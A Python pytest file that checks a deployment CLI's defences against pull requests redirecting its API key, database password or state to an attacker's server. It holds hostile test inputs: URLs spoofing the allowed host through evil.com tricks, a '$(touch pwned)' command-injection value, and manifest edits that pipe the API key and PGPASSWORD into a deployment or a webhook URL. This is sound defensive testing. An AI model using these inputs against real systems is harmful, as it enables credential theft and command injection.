"""A pull request must never send the API key or the state elsewhere (README "Who decides where
credentials go"). The attacker edits yottactl.yaml as a pull request would: its environment
names the attacker's server as endpoint or as the state's database. The attacker is a TCP
listener: it records every connection, so "no request" is checked as "not even a connection".
Every command that talks to the API or the state is enumerated from the click tree: a new
command without an entry in COMMAND_ARGS fails this test."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import click
import pytest
from click.testing import CliRunner

from reconciler.cli import main
from reconciler.emulator.server import EmulatorServer

from conftest import API_KEY, CANARY, manifest_text, start_emulator, stats

PG_PASSWORD = "pg-CANARY-password-5e1f"  # what libpq would send from PGPASSWORD


class Attacker:
    """A loopback listener that accepts and remembers every connection and what it was sent."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.stopped = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while True:
            conn, _ = self.sock.accept()
            if self.stopped:
                conn.close()
                return
            conn.settimeout(2)
            try:
                data = conn.recv(65536)
            except OSError:
                data = b""
            self.received.append(data or b"(connected)")
            conn.close()

    def stop(self) -> None:
        self.stopped = True
        socket.create_connection(("127.0.0.1", self.port)).close()  # wakes accept()
        self.thread.join()
        self.sock.close()


def api_commands() -> dict[str, click.Command]:
    """Every command taking --endpoint or --state, by its path ("state mv")."""
    found: dict[str, click.Command] = {}

    def walk(group: click.Group, prefix: str) -> None:
        for name, command in group.commands.items():
            path = f"{prefix}{name}"
            if isinstance(command, click.Group):
                walk(command, path + " ")
            elif {p.name for p in command.params} & {"endpoint", "state_path"}:
                found[path] = command

    walk(main, "")
    return found


# the arguments each command is run with, in the order run: apply first (later commands find a
# deployment and a state to work on), what removes it last
COMMAND_ARGS: dict[str, list[str]] = {
    "apply": ["--auto-approve"], "plan": [], "drift": [], "get": ["web"], "output": ["web"],
    "workers": ["web"], "logs": ["web", "--tail", "1"], "export": ["web", "--dir", "exported"],
    "wait": ["web", "--timeout", "5"], "restart": ["web", "--auto-approve", "--no-wait"],
    "import": ["web", "1" * 18], "state list": [], "state show": ["web"], "state history": [],
    "state pull": [], "state migrate": ["--to", "migrated.json"], "force-unlock": ["0" * 8],
    "state mv": ["web", "web2"], "state rm": ["web2"],
    "delete-unmanaged": ["1" * 18, "--auto-approve"], "destroy": ["--auto-approve"],
    "catalog refresh": ["--file", "catalog.json"],
    "agent": ["--once", "--listen", "off"],
}


def test_every_command_that_talks_to_the_api_or_the_state_is_covered() -> None:
    commands = api_commands()
    assert {"plan", "apply", "state list", "force-unlock"} <= set(commands)  # the walk works
    assert set(commands) == set(COMMAND_ARGS), "add the new command to COMMAND_ARGS"


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    server = Attacker()
    yield server
    server.stop()


@pytest.fixture
def legit() -> Iterator[EmulatorServer]:
    server = start_emulator()
    yield server
    server.stop()


def project(folder: Path, environment: str) -> Path:
    (folder / "deploy").mkdir(parents=True)
    (folder / "deploy" / "web.yaml").write_text(manifest_text("web"))
    (folder / "yottactl.yaml").write_text(f"manifests: deploy\nenvironments:\n  prod: {environment}\n")
    return folder


def run_all(env: dict[str, str | None]) -> dict[str, Any]:
    results = {}
    for name in COMMAND_ARGS:
        results[name] = CliRunner().invoke(main, [*name.split(), *COMMAND_ARGS[name], "--env", "prod"],
                                           env=env, catch_exceptions=False)
    return results


def base_env(**extra: str | None) -> dict[str, str | None]:
    return {"YOTTA_API_KEY": API_KEY, "HF_TOKEN": CANARY, "PGPASSWORD": PG_PASSWORD,
            "NO_COLOR": "1", "YOTTA_API_URL": None,
            "YOTTACTL_STATE": None, "CI": None, "YOTTACTL_ALLOWED_ENDPOINTS": None,
            "YOTTACTL_ALLOWED_STATES": None, "HTTPS_PROXY": None, "HTTP_PROXY": None,
            "ALL_PROXY": None, **extra}


def test_in_ci_the_exported_endpoint_and_state_win_over_the_pull_requests(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, attacker: Attacker,
        legit: EmulatorServer, pg_database: str) -> None:
    """The repro: CI exports YOTTA_API_URL and YOTTACTL_STATE; the pull request's yottactl.yaml
    points prod at the attacker. Every command runs against the exported ones."""
    evil = f"http://127.0.0.1:{attacker.port}"
    monkeypatch.chdir(project(tmp_path, f"{{endpoint: '{evil}', state: "
                                        f"'postgresql://yottactl@127.0.0.1:{attacker.port}/infra'}}"))
    results = run_all(base_env(CI="true", YOTTA_API_URL=legit.url, YOTTACTL_STATE=pg_database))
    assert attacker.received == []
    assert results["apply"].exit_code == 0, results["apply"].output
    assert f"endpoint {legit.url}" in results["plan"].output
    assert "environments.prod.endpoint (" + evil in results["plan"].stderr  # the note says so
    for name, result in results.items():
        assert result.exit_code in (0, 1, 2), (name, result.output)
        assert "Traceback" not in result.output
    assert stats(legit).get("endpointList_1", 0) >= 5  # the commands reached the exported API
    assert not (tmp_path / "state").exists()  # and the exported state, not a file


@pytest.mark.parametrize("ci", [True, False])
@pytest.mark.parametrize("attack", ["endpoint", "state"])
def test_a_pull_requests_endpoint_or_database_is_refused_before_any_request(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, attacker: Attacker,
        legit: EmulatorServer, ci: bool, attack: str) -> None:
    """Nothing exported to win (in CI), or outside CI an exported endpoint the pull request's
    differs from: an error naming both values, and the attacker hears nothing. Outside CI the
    attacker's endpoint is not loopback (loopback is the local emulator, allowed there): the
    attacker plays the HTTPS proxy, so any request to it would still arrive here."""
    evil = {"endpoint": f"http://127.0.0.1:{attacker.port}" if ci else "https://api.evil.example",
            "state": f"postgresql://yottactl@127.0.0.1:{attacker.port}/infra"}[attack]
    monkeypatch.chdir(project(tmp_path, f"{{{attack}: '{evil}'}}"))
    env = base_env(CI="true") if ci else base_env(
        YOTTA_API_URL=legit.url, YOTTACTL_STATE=str(tmp_path / "mine.json") if attack == "state"
        else None, HTTPS_PROXY=f"http://127.0.0.1:{attacker.port}", NO_PROXY="127.0.0.1,localhost")
    results = run_all(env)
    assert attacker.received == []
    assert sum(stats(legit).values()) == 0
    for name, result in results.items():
        if attack == "endpoint" and "endpoint" not in {p.name for p in api_commands()[name].params}:
            assert "environments.prod.endpoint" not in result.stderr, name  # not its business
            continue
        assert result.exit_code == 1, (name, result.output)
        assert f"environments.prod.{attack}" in result.stderr and evil in result.stderr, name
        assert "YOTTACTL_ALLOWED_" in result.stderr, name  # how to allow it
        if not ci:  # the other value is named too
            assert (legit.url if attack == "endpoint" else "mine.json") in result.stderr, name
    assert not (tmp_path / "mine.json").exists()


# -- the rule, value by value (reconciler/trust.py, reconciler/settings.for_project) -----------

@pytest.mark.parametrize(("url", "allowed"), [
    ("https://api.yottalabs.ai", True), ("https://api.yottalabs.ai/", True),
    ("https://API.yottalabs.ai:443/v1", True),
    ("https://api.yottalabs.ai.evil.com", False), ("https://api.yottalabs.ai@evil.com", False),
    ("https://api.yottalabs.ai\\@evil.com", False), ("https://evil.com#@api.yottalabs.ai", False),
    ("https://evil.com/?api.yottalabs.ai", False), ("https://user@api.yottalabs.ai", False),
    ("http://api.yottalabs.ai", False), ("https://api.yottalabs.ai:8443", False),
    ("https://api.yottalabs.ai%2eevil.com", False), ("not a url", False),
])
def test_an_endpoint_matches_an_allowed_prefix_by_its_parts_not_its_text(url: str,
                                                                         allowed: bool) -> None:
    from reconciler.trust import endpoint_allowed

    assert endpoint_allowed(url, ["https://api.yottalabs.ai"]) is allowed


def test_an_allowed_path_prefix_covers_whole_segments_only() -> None:
    from reconciler.trust import endpoint_allowed

    assert endpoint_allowed("https://gw.example/yotta/v1", ["https://gw.example/yotta"])
    assert not endpoint_allowed("https://gw.example/yottaevil", ["https://gw.example/yotta"])
    assert not endpoint_allowed("https://gw.example/", ["https://gw.example/yotta"])


@pytest.mark.parametrize(("url", "allowed"), [
    ("postgresql://db.internal/infra?sslmode=require&state=prod", True),
    ("POSTGRES://bob@DB.internal:5432/infra?sslmode=require", True),  # the user is not where
    ("postgresql://db.internal/infra", False),  # sslmode dropped: weaker than allowed
    ("postgresql://db.internal/infra?sslmode=require&host=evil.com", False),
    ("postgresql://db.internal/infra?sslmode=require&hostaddr=192.0.2.1", False),
    ("postgresql://db.internal,evil.com/infra?sslmode=require", False),
    ("postgresql://db.internal/other?sslmode=require", False),
    ("postgresql://db.internal.evil.com/infra?sslmode=require", False),
])
def test_a_database_matches_on_every_connection_parameter_libpq_would_use(url: str,
                                                                          allowed: bool) -> None:
    from reconciler.trust import state_allowed

    assert state_allowed(url, ["postgresql://db.internal/infra?sslmode=require"]) is allowed
    assert state_allowed(url, ["postgresql://db.internal/infra?sslmode=require&state=x"]) is False


def resolution(tmp_path: Path, environment: str, **environ: str) -> Any:
    from reconciler.project import Inputs, load, resolve
    from reconciler.settings import for_project

    (tmp_path / "yottactl.yaml").write_text(f"environments:\n  prod: {environment}\n")
    context = resolve(load(tmp_path / "yottactl.yaml"), "prod")
    return for_project(Inputs(context), environ={"YOTTA_API_KEY": "k", **environ})


def test_what_the_environment_allows_is_used(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from reconciler.errors import UsageError

    monkeypatch.chdir(tmp_path)
    gateway = "{endpoint: 'https://gw.example/yotta'}"
    with pytest.raises(UsageError) as refused:
        resolution(tmp_path, gateway)
    assert "environments.prod.endpoint sends the API key to https://gw.example/yotta" in str(refused.value)
    assert "the default is https://api.yottalabs.ai" in str(refused.value)
    assert "YOTTACTL_ALLOWED_ENDPOINTS=https://gw.example/yotta" in refused.value.hint
    with pytest.raises(UsageError) as refused:  # the hint is safe to paste into a shell
        resolution(tmp_path, "{endpoint: 'https://gw.example/$(touch pwned)'}")
    assert "YOTTACTL_ALLOWED_ENDPOINTS='https://gw.example/$(touch pwned)'" in refused.value.hint
    allowed = resolution(tmp_path, gateway,
                         YOTTACTL_ALLOWED_ENDPOINTS=" https://x.example, https://gw.example ")
    assert allowed.settings.endpoint == "https://gw.example/yotta" and allowed.notes == ()
    with pytest.raises(UsageError, match=r"entries that are not URLs: gw\.example\)"):
        resolution(tmp_path, gateway, YOTTACTL_ALLOWED_ENDPOINTS="gw.example")
    same = resolution(tmp_path, gateway, YOTTA_API_URL="https://gw.example/yotta", CI="true")
    assert same.settings.endpoint == "https://gw.example/yotta" and same.notes == ()
    # the built-in endpoint is always allowed; loopback (the emulator) only outside CI
    assert resolution(tmp_path, "{endpoint: 'https://api.yottalabs.ai'}", CI="true").settings.endpoint \
        == "https://api.yottalabs.ai"
    local = "{endpoint: 'http://127.0.0.1:8787'}"
    assert resolution(tmp_path, local).settings.endpoint == "http://127.0.0.1:8787"
    with pytest.raises(UsageError, match="loopback is not exempt in CI"):
        resolution(tmp_path, local, CI="true")
    with pytest.raises(UsageError, match="loopback is not exempt in CI"):  # CI without CI=true
        resolution(tmp_path, local, JENKINS_URL="https://ci.example")
    # an exported URL says where the key goes: a repository's loopback port may be anyone's
    with pytest.raises(UsageError, match="loopback is not exempt when YOTTA_API_URL is exported"):
        resolution(tmp_path, local, YOTTA_API_URL="https://api.yottalabs.ai")
    with pytest.raises(UsageError, match=r"YOTTA_API_URL is https://api\.yottalabs\.ai"):
        resolution(tmp_path, gateway, YOTTA_API_URL="https://api.yottalabs.ai")
    # a state file carries no credentials: the project file's is used, except in CI
    # when the job exports its own
    files = resolution(tmp_path, "{state: prod.json}", YOTTACTL_STATE="postgresql://db/x")
    assert files.settings.state_path == "prod.json"
    assert files.notes == ("YOTTACTL_STATE is ignored: environment 'prod' sets prod.json",)
    ci = resolution(tmp_path, "{state: prod.json}", YOTTACTL_STATE="postgresql://db/x", CI="true")
    assert ci.settings.state_path == "postgresql://db/x?state=prod"
    assert ci.notes == ("yottactl.yaml environments.prod.state (prod.json) is a file, and in CI "
                        "the job's state wins: using YOTTACTL_STATE",)
    database = "{state: 'postgresql://u:pw@db.internal/infra'}"
    with pytest.raises(UsageError) as refused:
        resolution(tmp_path, database, YOTTACTL_STATE="postgresql://db/x")
    assert "postgresql://u:***@db.internal/infra?state=prod" in str(refused.value)
    assert "YOTTACTL_STATE is postgresql://db/x" in str(refused.value)
    assert "pw" not in str(refused.value) + refused.value.hint
    assert resolution(tmp_path, database, YOTTACTL_ALLOWED_STATES="postgres://db.internal/infra"
                      ).settings.state_path == "postgresql://u:pw@db.internal/infra?state=prod"
    same = resolution(tmp_path, database, YOTTACTL_STATE="postgresql://db.internal/infra?state=x")
    assert same.settings.state_path == "postgresql://u:pw@db.internal/infra?state=prod"


def test_yotta_base_url_is_yotta_api_urls_alias_with_the_same_treatment(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Yotta's own CLI reads YOTTA_BASE_URL: alone it is the endpoint, YOTTA_API_URL beats it,
    and it allows or overrides a project file's endpoint exactly as YOTTA_API_URL does."""
    from reconciler.errors import UsageError
    from reconciler.settings import resolve as settings

    monkeypatch.chdir(tmp_path)
    assert settings(environ={"YOTTA_BASE_URL": "https://base.example"}).endpoint == \
        "https://base.example"
    assert settings(environ={"YOTTA_BASE_URL": "https://base.example",
                             "YOTTA_API_URL": "https://api.example"}).endpoint == "https://api.example"
    gateway = "{endpoint: 'https://gw.example/yotta'}"
    for variable in ("YOTTA_API_URL", "YOTTA_BASE_URL"):
        same = resolution(tmp_path, gateway, **{variable: "https://gw.example", "CI": "true"})
        assert same.settings.endpoint == "https://gw.example/yotta", variable
        assert same.notes == (f"{variable} is ignored: environment 'prod' sets "
                              "https://gw.example/yotta",)
        ci = resolution(tmp_path, gateway, **{variable: "https://api.yottalabs.ai", "CI": "true"})
        assert ci.settings.endpoint == "https://api.yottalabs.ai", variable
        assert ci.notes == ("yottactl.yaml environments.prod.endpoint (https://gw.example/yotta) is "
                            f"not in YOTTACTL_ALLOWED_ENDPOINTS: using {variable} "
                            "(https://api.yottalabs.ai)",)
        with pytest.raises(UsageError, match=f"{variable} is https://api\\.yottalabs\\.ai"):
            resolution(tmp_path, gateway, **{variable: "https://api.yottalabs.ai"})
        assert resolution(tmp_path, "{state: s.json}", **{variable: "https://x.example"}
                          ).settings.endpoint == "https://x.example", variable


# -- webhooks ---------------------------------------------------------------------------------

class Webhook:
    """A webhook that records each whole request (head and body) and answers ``answer``."""

    def __init__(self, answer: bytes = b"HTTP/1.1 204 No Content\r\nContent-Length: 0\r\n\r\n"):
        self.answer, self.requests = answer, list[bytes]()
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self.sock.getsockname()[1]}/hooks/T0KEN-in-the-path"
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        conn, _ = self.sock.accept()
        with conn:
            data = b""
            while b"\r\n\r\n" not in data:
                data += conn.recv(65536)
            head, _, body = data.partition(b"\r\n\r\n")
            length = int(next(line.split(b":")[1] for line in head.split(b"\r\n")
                              if line.lower().startswith(b"content-length:")))
            while len(body) < length:
                body += conn.recv(65536)
            self.requests.append(head + b"\r\n\r\n" + body)
            conn.sendall(self.answer)

    def close(self) -> None:
        self.thread.join(timeout=10)
        self.sock.close()


def test_a_webhook_gets_the_report_and_no_credential(cli: Any, attacker: Attacker,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    """`drift --notify`: the report with secret values fingerprinted, never the API key, the
    PostgreSQL password or an ${env:} value; a redirect is reported, not followed."""
    cli.write("web")
    assert cli("apply", str(cli.manifests), "--auto-approve").exit_code == 0
    [dep] = cli.client().list()
    cli.client().scale(dep.id, 3)  # drift
    rotated = "hf_ROTATED_c4n4ry_SECRET_77aa"
    cli.env.update(HF_TOKEN=rotated, PGPASSWORD=PG_PASSWORD)  # and a pending secret change
    hook = Webhook()
    result = cli("drift", str(cli.manifests), "--notify", hook.url)
    hook.close()
    assert result.exit_code == 2, result.output
    [request] = hook.requests
    assert request.startswith(b"POST /hooks/T0KEN-in-the-path HTTP/1.1\r\n")
    assert b"`web`: scaled" in request  # the report arrived
    for secret in (API_KEY, CANARY, rotated, PG_PASSWORD):
        assert secret.encode() not in request, secret
    assert b"x-api-key" not in request.lower() and b"authorization" not in request.lower()

    bounce = Webhook(b"HTTP/1.1 307 Temporary Redirect\r\nLocation: http://127.0.0.1:"
                     + str(attacker.port).encode() + b"/\r\nContent-Length: 0\r\n\r\n")
    bounced = cli("drift", str(cli.manifests), "--notify", bounce.url)
    bounce.close()
    assert bounced.exit_code == 1 and "webhook failed: HTTP 307" in bounced.stderr
    assert len(bounce.requests) == 1 and attacker.received == []
    broken = cli("drift", str(cli.manifests), "--notify", "http://[::1")
    assert broken.exit_code == 1 and "not a valid URL" in broken.stderr
    assert "Traceback" not in broken.output


def test_no_file_can_name_a_url_to_post_to(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """--notify is a command-line option only: no environment variable, no project-file key."""
    drift = main.commands["drift"]
    [notify] = [p for p in drift.params if p.name == "notify_url"]
    assert isinstance(notify, click.Option) and notify.envvar is None
    assert main.context_settings.get("auto_envvar_prefix") is None
    monkeypatch.chdir(tmp_path)
    (tmp_path / "yottactl.yaml").write_text("notify: https://evil.example/hook\n")
    refused = CliRunner().invoke(main, ["drift"], env=base_env())
    assert refused.exit_code == 1 and "unknown key 'notify'" in refused.output


def test_a_manifest_cannot_read_yottactls_own_credentials(cli: Any) -> None:
    """A pull request's manifest asking for the API key (into a deployment's environment, where
    its own image reads it) or the database password (into the webhook the platform calls)."""
    cli.write("web")
    text = (cli.manifests / "web.yaml").read_text()
    text = text.replace("    HF_TOKEN: ${env:HF_TOKEN}\n", "    HF_TOKEN: ${env:HF_TOKEN}\n"
                        "    LEAK: ${env:YOTTA_API_KEY}\n")
    text = text.replace("  state: running\n", "  state: running\n"
                        "  webhookUrl: https://hook.example/?p=${env:PGPASSWORD}\n")
    (cli.manifests / "web.yaml").write_text(text)
    cli.env["PGPASSWORD"] = PG_PASSWORD
    for args in (["validate"], ["validate", "--skip-env"], ["plan"], ["apply", "--auto-approve"]):
        result = cli(*args, str(cli.manifests))
        assert result.exit_code == 1, (args, result.output)
        assert "${env:YOTTA_API_KEY} is yottactl's own credential" in result.output, args
        assert "${env:PGPASSWORD} is yottactl's own credential" in result.output, args
        assert API_KEY not in result.output and PG_PASSWORD not in result.output
    assert stats(cli.server).get("endpointCreate", 0) == 0
    (cli.manifests / "web.yaml").write_text(text.replace("${env:YOTTA_API_KEY}", "${env:HF_TOKEN}")
                                            .replace("${env:PGPASSWORD}", "${env:HF_TOKEN}"))
    assert cli("validate", str(cli.manifests)).exit_code == 0  # other variables: as ever
